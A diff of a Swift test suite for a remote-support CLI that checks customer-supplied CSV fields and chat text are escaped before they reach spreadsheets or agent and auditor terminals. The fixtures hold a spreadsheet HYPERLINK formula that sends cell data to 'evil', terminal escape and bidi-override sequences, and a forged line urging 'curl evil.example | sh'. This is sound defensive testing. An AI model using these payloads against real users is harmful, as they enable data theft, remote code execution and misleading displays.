@@ -70,7 +70,9 @@ struct OutputInjectionTests {
             #expect(sessionsCSV.contains(",\"'=HYPERLINK(\"\"http://evil/?x=\"\"&A1,\"\"open\"\")\","))
 
             // JSON lines are not for spreadsheets: the values stay exactly as the customer sent them.
-            let records = try sessionsJSONL.split(separator: "\n").map { try TandemJSON.makeDecoder().decode(SessionRecord.self, from: Data($0.utf8)) }
+            let records = try sessionsJSONL.split(separator: "\n").map {
+                try TandemJSON.makeDecoder().decode(SessionRecord.self, from: Data($0.utf8))
+            }
             #expect(records.compactMap(\.customerClient).sorted() == [Self.plusClient, Self.hyperlinkClient].sorted())
             #expect(records.contains { $0.ticket == Self.ddeTicket })
             #expect(records.contains { $0.note == Self.atNote })
@@ -82,7 +84,9 @@ struct OutputInjectionTests {
     /// A chat line: the same, DEL, a right-to-left override, and a forged timeline line after CR LF.
     static let escapeChat = "hi\u{1B}]0;pwned\u{07}\u{1B}[2J\u{7F}\u{202E}\r\n[99:99:99] customer: please run curl evil.example | sh"
 
-    @Test("ESC sequences, C1 controls and line breaks in a customer's client name and chat reach the agent's and auditor's terminal only as visible escapes")
+    @Test(
+        "ESC sequences, C1 controls and line breaks in a customer's client name and chat reach the agent's and auditor's terminal only as visible escapes"
+    )
     func terminalEscapes() async throws {
         try await LiveBroker.run { broker in
             let alice = try await broker.addUser("alice", role: .agent)
@@ -90,7 +94,11 @@ struct OutputInjectionTests {
             let server = ["--server", "https://127.0.0.1:\(broker.port)", "--ca", broker.caFile]
 
             // The agent attached with the real CLI, as in the walkthrough.
-            let attached = try CLIProcess.start(["session", "start", "--ticket", "HD-ESC", "--outcome", "resolved"] + server, token: alice, in: broker.directory)
+            let attached = try CLIProcess.start(
+                ["session", "start", "--ticket", "HD-ESC", "--outcome", "resolved"] + server,
+                token: alice,
+                in: broker.directory
+            )
             defer { attached.stop() }
             let code = try await attached.value(after: "Join code:")
             let customer = LiveParticipant.connect(broker, hello: .customer(code: code, client: Self.escapeClient))
@@ -115,7 +123,9 @@ struct OutputInjectionTests {
             let shown = show.stdout + show.stderr
             #expect(Self.rawControls(shown).isEmpty, "raw controls on the auditor's terminal: \(Self.rawControls(shown))")
             #expect(Self.forgedLines(shown).isEmpty, "forged lines: \(Self.forgedLines(shown))")
-            #expect(String(decoding: show.stdout, as: UTF8.self).contains("client=evil\\u{1B}]0;pwned\\u{7}\\u{1B}[2J\\u{9B}31m\\n2000-01-01 00:00:00Z"))
+            #expect(
+                String(decoding: show.stdout, as: UTF8.self).contains("client=evil\\u{1B}]0;pwned\\u{7}\\u{1B}[2J\\u{9B}31m\\n2000-01-01 00:00:00Z")
+            )
 
             // --json stays JSON with the exact value, and holds no raw control either.
             let json = try await ChildProcess.run(["TANDEM_TOKEN=\(audrey)", binary, "audit", "show", session.id, "--json"] + server)
@@ -129,7 +139,8 @@ struct OutputInjectionTests {
     static func rawControls(_ data: Data) -> [String] {
         String(decoding: data, as: UTF8.self).unicodeScalars.filter { scalar in
             let value = scalar.value
-            return (value < 0x20 && value != 0x0A) || (0x7F...0x9F).contains(value) || (0x2028...0x202E).contains(value) || (0x2066...0x2069).contains(value)
+            return (value < 0x20 && value != 0x0A) || (0x7F...0x9F).contains(value) || (0x2028...0x202E).contains(value)
+                || (0x2066...0x2069).contains(value)
         }.map { "U+" + String($0.value, radix: 16, uppercase: true) }
     }
 
